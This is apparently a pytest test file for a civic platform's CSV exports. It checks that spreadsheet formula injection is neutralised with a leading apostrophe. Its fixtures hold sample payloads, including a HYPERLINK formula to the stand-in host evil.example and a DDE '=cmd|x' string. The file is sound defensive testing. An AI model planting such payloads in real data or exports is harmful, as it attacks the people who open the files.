"""Formulas in CSV (issue #11, finding 6): text that a spreadsheet would run as a formula is
neutralised in every CSV the platform writes (a leading apostrophe), numbers stay numbers,
and the JSON and GeoJSON of the same rows keep the text as it was typed."""

from __future__ import annotations

import csv
import decimal
import io
import json

import pytest

from cocity.commons.models import Commons
from cocity.core.csvsafe import csv_cell
from cocity.pacts import services
from tests.accounts.factories import UserFactory
from tests.commons.factories import MOLE, CommonsFactory
from tests.municipalities.factories import MunicipalityFactory
from tests.opendata.support import association_proposal
from tests.pacts.factories import Cast, PactFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x","click")'
DDE = "=cmd|x"
AT_SUM = "@SUM(1)"
PLUS_ORG = "+SpazioQuattro"
MINUS_CATEGORY = "-2+3 Cura"
TAB_DEPARTMENT = "\tUfficio Verde"
CR_DEPARTMENT = "\rUfficio Patrimonio"


def text_of(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8")


def rows_of(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_of(response), newline="")))


@pytest.fixture
def hostile(torino):
    """A pact titled with a formula, proposed by a citizen whose public name is a DDE payload;
    one proposed by an organisation whose name starts with +; commons whose address starts
    with @ and whose departments start with a tab and a carriage return; a category that
    starts with -."""
    cast = Cast(torino)
    cast.category = services.category_create(municipality=torino, name=MINUS_CATEGORY)
    citizen = UserFactory(show_name_publicly=True, display_name=DDE)
    pact = PactFactory(cast=cast, proponent=citizen, title=HYPERLINK)
    pact = services.pact_transition(actor=citizen, pact=pact, action="submit")
    association_proposal(cast, representative_name="Rappresentante", association_name=PLUS_ORG)
    at_sum = CommonsFactory(
        municipality=torino,
        name="Ex lavatoio",
        address=AT_SUM,
        owning_department=TAB_DEPARTMENT,
        point=MOLE,
    )
    cr = CommonsFactory(
        municipality=torino,
        name="Piazzetta",
        kind=Commons.Kind.SQUARE_STREET,
        address="via Po 2",
        owning_department=CR_DEPARTMENT,
    )
    cast.at_sum, cast.cr, cast.pact = at_sum, cr, pact
    return cast


def test_the_shared_rule_neutralises_formula_starts_and_keeps_numbers():
    # Given values a spreadsheet would run, and values it would read as numbers
    dangerous = [HYPERLINK, DDE, AT_SUM, PLUS_ORG, "-2+3", TAB_DEPARTMENT, CR_DEPARTMENT]
    numbers = [-0.5, 7, 0, decimal.Decimal("-12.50"), None, "-0.5", "-12", "42"]

    # Then the first get an apostrophe in front, and the others are left alone
    assert [csv_cell(v) for v in dangerous] == [f"'{v}" for v in dangerous]
    assert [csv_cell(v) for v in numbers] == numbers
    assert [csv_cell(v) for v in ["Orto", "a=b", "1+1", "", "'=già"]] == [
        "Orto",
        "a=b",
        "1+1",
        "",
        "'=già",
    ]


@pytest.mark.django_db
class TestOpenDataCsv:
    def test_pacts_csv_neutralises_title_citizen_and_organisation(self, client, hostile):
        # When the register is downloaded as CSV
        rows = {r["number"]: r for r in rows_of(client.get("/api/v1/torino/pacts.csv"))}

        # Then no cell starts with a formula character, and the text is otherwise intact
        pact = rows[hostile.pact.number]
        assert pact["title"] == f"'{HYPERLINK}"
        assert pact["proponent"] == f"'{DDE}"
        assert pact["category"] == f"'{MINUS_CATEGORY}"
        (orto,) = [r for r in rows.values() if r["title"] == "Orto condiviso"]
        assert orto["proponent"] == f"'{PLUS_ORG}"
        # the coordinates stay numbers
        assert float(pact["lon"]) == hostile.commons.lon
        for row in rows.values():
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    def test_commons_csv_neutralises_address_and_departments(self, client, hostile):
        rows = {int(r["id"]): r for r in rows_of(client.get("/api/v1/torino/commons.csv"))}

        assert rows[hostile.at_sum.pk]["address"] == f"'{AT_SUM}"
        assert rows[hostile.at_sum.pk]["owning_department"] == f"'{TAB_DEPARTMENT}"
        assert rows[hostile.cr.pk]["owning_department"] == f"'{CR_DEPARTMENT}"
        assert rows[hostile.cr.pk]["address"] == "via Po 2"
        assert float(rows[hostile.at_sum.pk]["lon"]) == MOLE[0]

    def test_a_stored_export_is_neutralised_too(self, client, hostile, settings, tmp_path):
        # Given the page cache on, so that the second download is served from the stored file
        settings.PAGE_CACHE_SECONDS = 60
        settings.VAR_DIR = tmp_path
        first = text_of(client.get("/api/v1/torino/pacts.csv"))

        second = client.get("/api/v1/torino/pacts.csv")

        assert text_of(second) == first
        assert f"'{HYPERLINK}".replace('"', '""') in first

    def test_json_and_geojson_keep_the_text_unchanged(self, client, hostile):
        # When the same rows are read as JSON and GeoJSON
        listing = client.get("/api/v1/torino/pacts").json()["results"]
        pacts = json.loads(text_of(client.get("/api/v1/torino/pacts.geojson")))
        commons = json.loads(text_of(client.get("/api/v1/torino/commons.geojson")))
        detail = client.get(f"/api/v1/torino/pacts/{hostile.pact.number}").json()

        # Then the text is exactly what was typed
        by_number = {p["number"]: p for p in listing}
        assert by_number[hostile.pact.number]["title"] == HYPERLINK
        assert by_number[hostile.pact.number]["proponent"] == DDE
        assert detail["title"] == HYPERLINK
        features = {f["id"]: f["properties"] for f in pacts["features"]}
        assert features[hostile.pact.number]["title"] == HYPERLINK
        assert features[hostile.pact.number]["proponent"] == DDE
        assert features[hostile.pact.number]["category"] == MINUS_CATEGORY
        assert PLUS_ORG in {p["proponent"] for p in features.values()}
        places = {f["id"]: f["properties"] for f in commons["features"]}
        assert places[hostile.at_sum.pk]["address"] == AT_SUM
        assert places[hostile.at_sum.pk]["owning_department"] == TAB_DEPARTMENT
        assert places[hostile.cr.pk]["owning_department"] == CR_DEPARTMENT


@pytest.mark.django_db
class TestImpactCsv:
    def test_the_dashboard_csv_neutralises_category_names(self, client, hostile):
        response = client.get("/torino/impact/", {"format": "csv"})

        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        cells = [c for row in csv.reader(io.StringIO(text_of(response))) for c in row]
        assert f"'{MINUS_CATEGORY}" in cells
        assert MINUS_CATEGORY not in cells
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)

    def test_the_observatory_csv_neutralises_municipality_names(self, client, db):
        MunicipalityFactory(slug="evil", name="=1+2 Comune")

        response = client.get("/", {"format": "csv"})

        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(text_of(response))))
        assert [r[0] for r in rows if "Comune" in r[0]] == ["'=1+2 Comune"]
        # the figures stay numbers
        (evil,) = [r for r in rows if r[0] == "'=1+2 Comune"]
        assert evil[2] == "0"
